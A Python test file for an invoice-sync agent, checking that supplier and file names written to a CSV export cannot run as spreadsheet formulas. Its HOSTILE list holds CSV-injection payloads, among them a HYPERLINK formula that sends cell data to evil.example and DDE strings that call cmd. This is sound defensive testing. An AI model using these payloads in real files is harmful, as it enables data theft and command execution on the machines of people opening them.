"""invoices.csv is safe to open in a spreadsheet: hostile supplier and file names (read off a
supplier's own document) cannot become formulas, amounts stay numbers, the JSON keeps the exact
values. `qonto-agent sync` runs as a real process against the sandbox over HTTP."""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path

import openpyxl

from support import make_config, run_agent

from agent.outbox.index import FORMULA_START, safe_cell
from agent.sandbox.server import Sandbox

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
AMOUNTS = ["-12.50", "0.99", "1234567.00"]


def test_hostile_names_are_no_formulas_and_amounts_stay_numbers(tmp_path: Path, sandbox: Sandbox) -> None:
    ids = sandbox.seed(len(HOSTILE), without_attachment=0.0)
    for n, (invoice_id, name) in enumerate(zip(ids, HOSTILE)):
        sandbox.update_invoice(invoice_id, supplier_name=name, invoice_number=name, file_name=f"{name}.pdf",
                               total_amount={"value": AMOUNTS[n % len(AMOUNTS)], "currency": "EUR"})
    result = run_agent(make_config(tmp_path, sandbox), "sync")
    assert result.returncode == 0, result.stderr
    outbox = tmp_path / "outbox"

    with open(outbox / "invoices.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        cells = {field: value for field, value in row.items() if field != "total_amount"}
        assert not [v for v in cells.values() if v.startswith(FORMULA_START)], row
        Decimal(row["total_amount"])  # a number a spreadsheet reads as one, negative ones too
    by_id = {row["id"]: row for row in rows}
    assert {by_id[i]["supplier_name"] for i in ids} == {f"'{name}" for name in HOSTILE}
    assert {by_id[i]["total_amount"] for i in ids} == set(AMOUNTS)

    assert_no_formula_in_a_spreadsheet(outbox / "invoices.csv", tmp_path / "invoices.xlsx")

    for path in outbox.glob("*.json"):  # the JSON keeps what Qonto sent, byte for byte
        invoice = json.loads(path.read_text(encoding="utf-8"))["supplier_invoice"]
        assert invoice == sandbox.invoice(invoice["id"]) and invoice["supplier_name"] in HOSTILE


def assert_no_formula_in_a_spreadsheet(csv_path: Path, xlsx: Path) -> None:
    """Open the CSV the way a spreadsheet imports one (numbers as numbers, the rest as typed text),
    save it as a workbook with openpyxl and read it back: no cell is a formula, amounts are numbers."""
    book = openpyxl.Workbook()
    sheet = book.active
    with open(csv_path, encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            sheet.append([_as_typed(value) for value in row])
    book.save(xlsx)
    cells = [cell for row in openpyxl.load_workbook(xlsx).active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    header = [cell.value for cell in next(openpyxl.load_workbook(xlsx).active.iter_rows())]
    column = header.index("total_amount")
    amounts = [row[column] for row in openpyxl.load_workbook(xlsx).active.iter_rows(min_row=2)]
    assert amounts and all(cell.data_type == "n" for cell in amounts)


def _as_typed(value: str) -> float | str:
    try:
        return float(value)
    except ValueError:
        return value


def test_only_plain_numbers_escape_the_text_rule() -> None:
    assert safe_cell("total_amount", "-3.20") == "-3.20"
    assert safe_cell("total_amount", "-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0"
    assert safe_cell("supplier_name", "-3.20") == "'-3.20"
    assert safe_cell("supplier_name", "Acme = best") == "Acme = best"
    assert safe_cell("supplier_name", "") == ""
